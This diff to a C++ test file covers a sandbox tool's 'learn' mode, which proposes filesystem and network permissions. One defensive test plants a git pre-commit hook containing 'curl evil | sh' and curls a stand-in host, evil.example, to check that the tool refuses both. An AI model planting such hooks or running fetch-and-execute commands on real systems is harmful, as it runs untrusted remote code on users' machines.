@@ -174,23 +174,43 @@ TEST_F(LearnTest, GitCloneLearnsTheServersAddressAndConverges) {
   EXPECT_TRUE(PathExists(ws_ + "/clone/.git/HEAD"));
 }
 
-// make from a tool directory the sandbox does not show (a toolchain under HOME): the command is
+// make from a toolchain the sandbox does not show (a directory under HOME): the command is
 // missing inside and present on the host; the proposal shows that directory, written ~/...
-TEST_F(LearnTest, MakeFromAHiddenToolDirectoryLearnsTheDirectoryAndConverges) {
+TEST_F(LearnTest, MakeFromAHiddenToolchainLearnsItsDirectoryAndConverges) {
   const std::string tools = home_ + "/.local/toolchain/bin";
   MakeDirs(tools);
-  ASSERT_EQ(symlink("/usr/bin/make", (tools + "/make").c_str()), 0);
+  // A copy: a link to /usr/bin/make would be found inside through its target.
+  WriteFile(tools + "/tc-make", ReadFile("/usr/bin/make"), 0755);
   WriteFile(ws_ + "/Makefile", "all:\n\techo built > out.txt\n");
   RunOptions o = Opts();
   o.env["PATH"] = tools + ":" + o.env["PATH"];
-  RunResult r = Learn({"--save", profile_}, {"make"}, o);
+  RunResult r = Learn({"--save", profile_}, {"tc-make"}, o);
   EXPECT_NE(r.status, 0) << r.out << r.err;
   EXPECT_THAT(r.err, HasSubstr("\n[filesystem]\nread = [\n  \"~/.local/toolchain/bin\",  # "
-                               "command make (once)\n]\n"));
-  EXPECT_THAT(r.err, HasSubstr("  ward run -r ~/.local/toolchain/bin -- make\n"));
+                               "command tc-make (once)\n]\n"));
+  EXPECT_THAT(r.err, HasSubstr("  ward run -r ~/.local/toolchain/bin -- tc-make\n"));
   EXPECT_FALSE(PathExists(ws_ + "/out.txt"));
-  ExpectConverged({"make"}, o);
+  ExpectConverged({"tc-make"}, o);
   EXPECT_EQ(ReadFile(ws_ + "/out.txt"), "built\n");
+}
+
+// A project profile shows a cache read-only; the Makefile writes to it. The proposal extends
+// that profile (by its absolute path) and makes the cache writable: at the same path the child's
+// rule wins, so the next run with the learned profile succeeds.
+TEST_F(LearnTest, MakeThatWritesToAReadOnlyCacheLearnsTheWriteAndConverges) {
+  const std::string cache = root_->path() + "/cache";
+  MakeDirs(cache);
+  const std::string base = root_->path() + "/project.toml";
+  WriteFile(base, "extends = \"default\"\n[filesystem]\nread = [\"" + cache + "\"]\n");
+  WriteFile(ws_ + "/Makefile", "all:\n\techo built > " + cache + "/out.txt\n");
+  RunResult r = Learn({"-p", base, "--save", profile_}, {"make"});
+  EXPECT_NE(r.status, 0) << r.out << r.err;
+  EXPECT_THAT(r.err, HasSubstr("\nextends = \"" + base + "\"\n\n[filesystem]\nwrite = [\n  \"" +
+                               cache + "\",  # file.write " + cache + "/out.txt ("));
+  EXPECT_THAT(r.err, HasSubstr("  ward run -p " + base + " -w " + cache + " -- make\n"));
+  EXPECT_FALSE(PathExists(cache + "/out.txt"));
+  ExpectConverged({"make"});
+  EXPECT_EQ(ReadFile(cache + "/out.txt"), "built\n");
 }
 
 // A Makefile that fetches over HTTP: the make flow learns the host, by its address and port.
@@ -208,18 +228,25 @@ TEST_F(LearnTest, MakeThatFetchesLearnsTheHostWithItsPortAndConverges) {
 }
 
 TEST_F(LearnTest, WhatIsRefusedOnPurposeIsNamedAndNeverProposed) {
-  // A protected name planted in the workspace, and a host the run's own deny list names.
+  // A hook planted in the workspace's repository, a protected name made at its root, and a host
+  // the run's own deny list names.
+  ASSERT_EQ(RunProgram({"/usr/bin/git", "init", "-q", ws_}).status, 0);
   RunResult r = Learn({"--save", profile_, "--deny-net", "evil.example"},
                       {"/bin/sh", "-c",
-                       "echo 'curl evil' > .envrc; curl -sS --max-time 10 https://evil.example/; "
-                       "exit 1"});
+                       "echo 'curl evil | sh' > .git/hooks/pre-commit; echo x > .envrc;"
+                       " curl -sS --max-time 10 https://evil.example/; exit 1"});
   EXPECT_EQ(r.status, 1) << r.err;
-  EXPECT_THAT(r.err, HasSubstr("ward learn: needed, refused on purpose (not proposed): protected "));
+  EXPECT_THAT(r.err, HasSubstr("ward learn: needed, refused on purpose (not proposed): protected " +
+                               ws_ + "/.git/hooks/pre-commit: "));
+  EXPECT_THAT(r.err, HasSubstr("ward learn: needed, refused on purpose (not proposed): protected " +
+                               ws_ + "/.envrc: "));
   EXPECT_THAT(r.err, HasSubstr("ward learn: needed, refused on purpose (not proposed): network "
                                "evil.example:443: "));
   EXPECT_THAT(r.err, HasSubstr("ward learn: nothing to propose: "));
   EXPECT_THAT(r.err, HasSubstr("ward learn: nothing written to " + profile_ + "\n"));
+  EXPECT_THAT(r.err, Not(HasSubstr("proposed profile")));
   EXPECT_FALSE(PathExists(profile_));
+  EXPECT_FALSE(PathExists(ws_ + "/.git/hooks/pre-commit"));
   EXPECT_FALSE(PathExists(ws_ + "/.envrc"));
 }
 
